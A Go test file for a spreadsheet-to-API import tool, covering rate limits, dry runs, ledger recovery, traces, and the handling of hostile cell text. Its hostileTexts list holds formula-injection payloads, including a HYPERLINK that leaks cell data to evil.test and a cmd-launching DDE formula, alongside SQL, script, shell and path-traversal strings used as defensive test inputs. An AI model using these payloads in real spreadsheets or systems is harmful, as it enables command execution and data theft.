package cli_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"claimsheet/apiclient/apitest"
)

// TestRateOverrides: --rate and --concurrency win over the environment's limits.
func TestRateOverrides(t *testing.T) {
	t.Parallel()
	s := newScene(t, "name: a\napi: v2\n"+clientPart, leads(8))
	s.environment("limits: {requests_per_second: 0.001, concurrency: 1}")
	var mu sync.Mutex
	var at []time.Time
	s.service.Play(func(apitest.Call) apitest.Fault {
		mu.Lock()
		defer mu.Unlock()
		at = append(at, time.Now())
		return apitest.Fault{Delay: 100 * time.Millisecond}
	})
	p := s.mustRun(0, "--rate", "50", "--concurrency", "8", "--accept", "new-ledger")
	together := false
	for i, c := range p.calls[1:] {
		together = together || c.Arrived < p.calls[i].Ended
	}
	if took := at[len(at)-1].Sub(at[0]); took < time.Duration(len(at)-2)*20*time.Millisecond || !together {
		t.Errorf("%d requests in %v: more than 50 a second, or one after the other", len(at), took)
	}
}

// TestDryRunLeavesNothing: a dry run writes a plan and no other file, and refuses to write it over results.
func TestDryRunLeavesNothing(t *testing.T) {
	s := newScene(t, stepThree, leads(2))
	scratch := t.TempDir()
	t.Setenv("TMPDIR", scratch)
	s.mustRun(0, "--dry-run")
	if left, err := os.ReadDir(scratch); err != nil || len(left) > 0 {
		t.Errorf("the dry run leaves %v in the temporary folder (error %v)", left, err)
	}
	if diff := cmp.Diff([]string{"environments.yaml", "leads.plan.xlsx", "leads.xlsx", "mapping.yaml"}, names(t, s.dir)); diff != "" {
		t.Errorf("files (-want +got):\n%s", diff)
	}
	s.mustRun(0)
	s.mustRun(2, "--dry-run", "-o", s.path("leads.results.xlsx"))
}

// TestContactOfTheEnvironment says what is wrong with the place of a contact's id, before anything is sent.
func TestContactOfTheEnvironment(t *testing.T) {
	t.Parallel()
	s := newScene(t, joint, nil)
	writeSheet(t, s.path(s.input), []any{"E-mail", "First name", "Agreement no", "Partner", "Partner name"}, [][]any{{"a@example.com", "Ann", "A-1"}})
	for text, want := range map[string]string{"": "is empty", "two words": "not one word", strings.Repeat("x", 300): "too long for an id",
		"contact-7": "is not an id of the service", "00000000-0000-0000-0000-000000000000": "stands for no id"} {
		write(t, s.path("broker"), text)
		p := s.run()
		if p.code != 2 || len(p.posts()) > 0 || !strings.Contains(p.err, want) || !strings.Contains(p.err, "mapping.yaml:16:") || text != "" && strings.Contains(p.err, text) {
			t.Errorf("%q: exit code %d, want %q\n%s", text, p.code, want, p.err)
		}
	}
	must(t, os.Remove(s.path("broker")))
	if p := s.run(); p.code != 2 || !strings.Contains(p.err, "[contact-id]") {
		t.Errorf("without the file: exit code %d\n%s", p.code, p.err)
	}
}

// TestLedgerLostUnderARun takes the ledger away while a request is in flight: the run sends nothing more, its id goes
// to the journal, and the next run takes it up and does the rest. Nothing is created twice.
func TestLedgerLostUnderARun(t *testing.T) {
	t.Parallel()
	s := newScene(t, creating, leads(2))
	path := s.path(".claimsheet/ledger.db")
	s.service.Play(apitest.Once(onStep("client c1@example.com"), apitest.Fault{Then: func() {
		if err := os.Rename(path, path+".away"); err != nil {
			t.Error(err)
		}
	}}))
	p := s.mustRun(3, "--concurrency", "1")
	if posts := p.posts(); posts["client"] != 1 || len(posts) != 1 {
		t.Errorf("%v were sent, want one client", posts)
	}
	s.service.Play(nil)
	if said := p.err; !strings.Contains(said, `client created, id "`+s.service.Created()["client c1@example.com"][0].ID+`"`) || strings.Contains(said, "c1@example.com") {
		t.Errorf("stderr is %q, want the id and no key", said)
	}
	must(t, os.Rename(path+".away", path))
	for range 2 { // a dry run changes nothing
		if p := s.mustRun(3, "--dry-run"); !strings.Contains(p.err, "1 outcomes in the journal") {
			t.Errorf("stderr is %q, want it to tell of the outcome to be taken up", p.err)
		}
	}
	if p := s.mustRun(0); !strings.Contains(p.err, "had to keep in its journal: 1") {
		t.Errorf("stderr is %q, want it to tell of the outcome taken up", p.err)
	}
	s.mustRun(0, "--dry-run")
	s.mustRun(0)
	s.checkMadeOnce()
	if made, left := s.service.Created(), s.glob(".claimsheet/*.outcomes"); len(made) != 4 || len(left) > 0 {
		t.Errorf("%v were created, and the journals %v are left", made, left)
	}
}

// halfDone is a scene with results in which a person has corrected the amount of the third client. It is not known
// whether the claim of the fourth was created.
func halfDone(t *testing.T) *scene {
	t.Helper()
	rows := leads(4)
	rows[2][7] = "ask"
	s := newScene(t, stepThree, rows)
	s.service.Play(apitest.Once(onStep("claim c4@example.com/Loan A-4"), apitest.CreateThenDrop()))
	s.mustRun(4)
	editWorkbook(t, s.path(s.book()), func(f *excelize.File) { set(t, f, "Amount", 4, 250.25) })
	return s
}

func (s *scene) glob(pattern string) []string {
	s.t.Helper()
	found, err := filepath.Glob(s.path(pattern))
	must(s.t, err)
	return found
}

const libreOfficeMapping = `
name: loans
api: v2
client:
  key: E-mail
  lookup: {email: E-mail}
  fields: {email: {column: E-mail, type: Email}, lastName: Name}
claims: [{id: loan, key: Agreement no, name: "Loan {Agreement no}"}]
workflow: {name: Loans, template_identifier: WF-LOANS}
activities:
  - {template: Your details, attributes: {Date of birth: Signed, Consent to contact: Opt in}}
  - {template: Agreement details, on: loan, attributes: {Agreement number: Agreement no, Amount: Amount}}
  - {template: Sign your claim, status: Open}
`

// TestRerunLibreOfficeWorkbook runs a results workbook again that LibreOffice has written (soffice --convert-to xlsx), in
// a folder without its ledger. It is of a run into the sandbox of four leads from row 4 of a workbook that counts days from
// 1904; a person has corrected the amount of the third, sorted, filtered, and moved columns.
func TestRerunLibreOfficeWorkbook(t *testing.T) {
	t.Parallel()
	const golden = "testdata/edited-in-libreoffice.xlsx"
	data, err := os.ReadFile(golden)
	must(t, err)
	dir := t.TempDir()
	mapping, results := filepath.Join(dir, "mapping.yaml"), filepath.Join(dir, "leads.results.xlsx")
	write(t, mapping, libreOfficeMapping)
	must(t, os.WriteFile(results, data, 0o600))
	before := byClient(t, results)

	p := claimsheet(t, "rerun", "--json", "--yes", "-m", mapping, "-e", "sandbox", results)
	if p.code != 0 || p.summary.Rows.Done != 1 || p.summary.Rows.Unchanged != 3 {
		t.Fatalf("exit code %d, rows %+v\n%s", p.code, p.summary.Rows, p.err)
	}
	if r := p.summary.Requests; r.Client != 1 || r.Claim != 1 || r.Activity != 3 || r.Link != 1 {
		t.Errorf("requests %+v, want those of one client", r)
	}
	after := byClient(t, results)
	for email, now := range after {
		headers := []string{"Agreement no", "Signed", "Opt in", "Source row", "claimIds", "redirectUrl"}
		if email == "c3@example.com" {
			headers = headers[:4]
		}
		for _, header := range headers {
			if then := before[email][header]; now[header] != then || then == "" {
				t.Errorf("%s: %s was %q and is now %q", email, header, then, now[header])
			}
		}
	}
	if no := after["c3@example.com"]["Agreement no"]; no != "00903" {
		t.Errorf("the agreement number is shown as %s", no)
	}
}

// byClient are the results by e-mail and header.
func byClient(t *testing.T, path string) map[string]record {
	t.Helper()
	all := map[string]record{}
	for _, line := range readSheet(t, path, "Results") {
		all[line["E-mail"]] = line
	}
	return all
}

func readText(t testing.TB, path string) string {
	t.Helper()
	data, err := os.ReadFile(path)
	must(t, err)
	return string(data)
}

var (
	runID    = regexp.MustCompile(`[ {,]"?run"?[=:]"?[0-9a-f]{8}-[0-9a-f-]{27}"?[ ,}\n]`)
	textLine = regexp.MustCompile(`^time=\S+ level=(INFO|WARN|ERROR) msg=(\S+|".*") run=`)
)

// checkLines checks that a log is one record a line, each with the run's id, and that it ends with the exit code.
func checkLines(t *testing.T, format, log string, code int) {
	t.Helper()
	lines := slices.Collect(strings.Lines(log))
	for _, line := range lines {
		if !runID.MatchString(line) || format == "json" && !json.Valid([]byte(line)) || format == "text" && !textLine.MatchString(line) {
			t.Errorf("this is no line of %s, or has no run id: %s", format, line)
		}
	}
	want := map[string]string{"text": fmt.Sprintf("exitCode=%d ", code), "json": fmt.Sprintf(`"exitCode":%d,`, code)}[format]
	if last := append([]string{""}, lines...)[len(lines)]; !strings.Contains(last, "run ended") || !strings.Contains(last, want) {
		t.Errorf("the log does not end with %s: %s", want, last)
	}
}

// traceLine is a line of a trace, as docs/operations.md explains it.
type traceLine struct {
	Run, Kind, Method, Path, RequestID string
	Sheet, Row, Status                 int
	MS                                 map[string]float64
}

// TestTraceOfARun: every request of a run is a line that leads to the row and to the service's own log. TestP3_Canaries
// shows that no line has anything of the sheet, a secret or a redirect url.
func TestTraceOfARun(t *testing.T) {
	t.Parallel()
	s := newScene(t, stepThree, leads(2))
	s.service.Play(apitest.Once(func(c apitest.Call) bool { return c.Kind == "claim" }, apitest.Busy(429, 0)))
	p := s.mustRun(0, "--trace", s.path("trace.jsonl"))
	text := readText(t, s.path("trace.jsonl"))
	lines := slices.Collect(strings.Lines(text))
	ids := map[string]apitest.Call{}
	for _, c := range p.calls {
		ids[c.Header.Get("X-Request-Id")] = c
	}
	if len(lines) != len(p.calls) {
		t.Errorf("%d lines for %d requests", len(lines), len(p.calls))
	}
	for _, text := range lines {
		var line traceLine
		must(t, json.Unmarshal([]byte(text), &line))
		c, ok := ids[line.RequestID]
		if !ok || c.Method != line.Method || c.Kind != line.Kind || c.Status != line.Status || line.Run != p.summary.Run || !strings.Contains(c.Header.Get("User-Agent"), line.Run) || line.MS["whole"] <= 0 {
			t.Errorf("no request is as the line says: %+v", line)
		}
		if row := map[string]int{"c1@example.com": 2, "c2@example.com": 3}[c.Client]; row != 0 && (line.Row != row || line.Sheet != 1) {
			t.Errorf("the row of %s is %d: %+v", c.Client, row, line)
		}
	}
	if p := s.run("--trace", s.path("trace.jsonl")); p.code != 2 || len(p.calls) > 0 || readText(t, s.path("trace.jsonl")) != text {
		t.Errorf("an earlier trace: exit code %d, %d requests\n%s", p.code, len(p.calls), p.err)
	}
}

// TestC2_HostileCells sends a sheet with hostile texts in the addresses of its clients. What arrives at the service is
// to the letter what the cell says, or the row is invalid; every row is accounted for once, and stderr has no text of a cell.
func TestC2_HostileCells(t *testing.T) {
	t.Parallel()
	const canary = "s3cr3t"
	var rows [][]any
	for n, text := range hostileTexts {
		row := lead(n+1, fmt.Sprint("A-", n+1))
		row[1], row[4] = canary+"\u202e", text.stored
		rows = append(rows, row)
	}
	s := newScene(t, stepThree, rows)
	p := s.mustRun(1, "--max-failures", "100%")
	for _, bad := range []string{"panic", "goroutine ", canary, "\x1b", "\u202e", "\x00", "evil"} {
		if strings.Contains(p.err, bad) {
			t.Errorf("stderr holds %q:\n%s", bad, p.err)
		}
	}
	if r := p.summary.Rows; r.Total != len(rows) || r.Done+r.Invalid != len(rows) || r.Invalid == 0 {
		t.Errorf("%d rows came to %+v", len(rows), r)
	}
	arrived := map[string]string{}
	for _, call := range p.calls {
		if call.Kind != "activity" || !strings.Contains(call.Body, reference[0].Attributes[0].ID) {
			continue
		}
		var body struct {
			Attributes []struct{ TemplateID, StringValue string }
		}
		must(t, json.Unmarshal([]byte(call.Body), &body))
		for _, a := range body.Attributes {
			if a.TemplateID == reference[0].Attributes[1].ID {
				arrived[call.Client] = a.StringValue
			}
		}
	}
	for i, row := range s.results() {
		text := hostileTexts[i]
		if got := arrived[row["E-mail"]]; got != text.arrives || (row["Import status"] == "invalid") != (row["Error"] != "") {
			t.Errorf("%q arrived as %q, want %q; its row is %q: %s", text.stored, got, text.arrives, row["Import status"], row["Error"])
		}
	}
	s.checkMadeOnce()
}

// TestHostileCellTooLong: a text of 40,000 characters is more than a cell can hold. The workbook is refused, and
// nothing is sent.
func TestHostileCellTooLong(t *testing.T) {
	t.Parallel()
	row := lead(1, "A-1")
	row[4] = strings.Repeat("x", 40_000)
	s := newScene(t, stepThree, [][]any{row})
	if p := s.mustRun(2); !strings.Contains(p.err, s.path("leads.xlsx")+": ") || !strings.Contains(p.err, "32,767") || len(p.posts()) > 0 {
		t.Errorf("stderr %q, sent %v", p.err, p.posts())
	}
}

// hostileText is a text as the file holds it and as it must arrive; "" where it must be refused or is nothing.
type hostileText struct{ stored, arrives string }

func same(s string) hostileText { return hostileText{s, s} }

// hostileTexts are what people, programs and attackers put into text cells.
var hostileTexts = []hostileText{
	same("1 High Street"), same("=1+1"), same("=cmd|' /C evil'!A0"), same("+1+cmd|evil"), same("-1+1"), same("@SUM(1+1)*cmd|evil"),
	same("=HYPERLINK(\"http://evil.test?x=\"&A1,\"click\")"), same("{{.Env}}"), same("${HOME}"), same("$(evil)"), same("`evil`"), same("%s%n%d"), same(`"},{"x":"`),
	same("\\\"},{\\\"x\\\":\\\""), same("</t></is></c><evil/>"), same("<script>evil()</script>"), same("'; DROP TABLE steps;--"), same("../../etc/evil"),
	same("{E-mail}"), same("{{E-mail}}"), same("E-mail | Name"), same("null"), same("true"), same("NaN"), same("00123"), same("1E5"), same("#N/A"),
	same("a\tb"), {"line one\r\nline two", "line one\nline two"}, {"line one\rline two", "line one\nline two"}, same("line one\nline two"),
	same("Zo\u00eb"), same("Zoe\u0308"), same("a\u200bb"), same("a\u202eb\u202c"), same("\u2066a\u2069b"), same("👩\u200d👩\u200d👧"), same("ﷺ"), same("\U0001F4A9 \U000E0001x"),
	{"  spaced out \u00a0", "spaced out"}, {"\u200bzero\u2060", "zero"}, {"_x0041_BC", "ABC"}, {"_x005F_x0041_", "_x0041_"},
	{"NUL_x0000_here", ""}, {"ESC_x001B_[31mred", ""}, {"BEL_x0007_", ""}, {"lost\ufffdcharacter", ""}, {"\u200b", ""}, {"   ", ""}, {"DEL\u007f", ""}, {"C1\u0085x", ""},
}
